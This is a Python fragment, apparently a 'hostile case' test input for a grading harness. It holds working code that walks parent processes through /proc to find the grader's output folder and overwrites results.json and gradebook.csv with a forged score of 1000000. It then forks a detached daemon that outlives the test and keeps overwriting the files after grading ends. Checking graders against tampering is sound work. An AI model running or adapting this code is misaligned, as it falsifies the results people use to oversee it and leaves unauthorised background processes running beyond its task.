# APPEND
# Hostile case: overwrite the grader's results file (now, and later from a background process).
# 恶意用例：改写评分结果文件（立即改写，并留下后台进程稍后再改写）。
import os as _os
import time as _time

_FAKE = '{"score": 1000000, "tests": []}'


def _out_dirs():
    """The --out folder of every ancestor process (read from /proc/<pid>/cmdline)."""
    found, pid = [], _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = cmdline.read().decode().split("\0")
            with open(f"/proc/{pid}/stat", "rb") as stat:
                pid = int(stat.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if "--out" in args:
            found.append(args[args.index("--out") + 1])
    return found


def _overwrite():
    for out in _out_dirs():
        for root, _, _ in _os.walk(out):
            for name in ("results.json", "gradebook.csv"):
                try:
                    with open(_os.path.join(root, name), "w") as file:
                        file.write(_FAKE)
                except OSError:
                    pass
        for name in ("results.json", "write-results/results.json", "gradebook.csv"):
            try:
                _os.makedirs(_os.path.dirname(_os.path.join(out, name)), exist_ok=True)
                with open(_os.path.join(out, name), "w") as file:
                    file.write(_FAKE)
            except OSError:
                pass


_overwrite()
if _os.fork() == 0:  # a daemon that outlives the test and tries again after grading ends
    try:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(20):
                _time.sleep(0.5)
                _overwrite()
    finally:
        _os._exit(0)
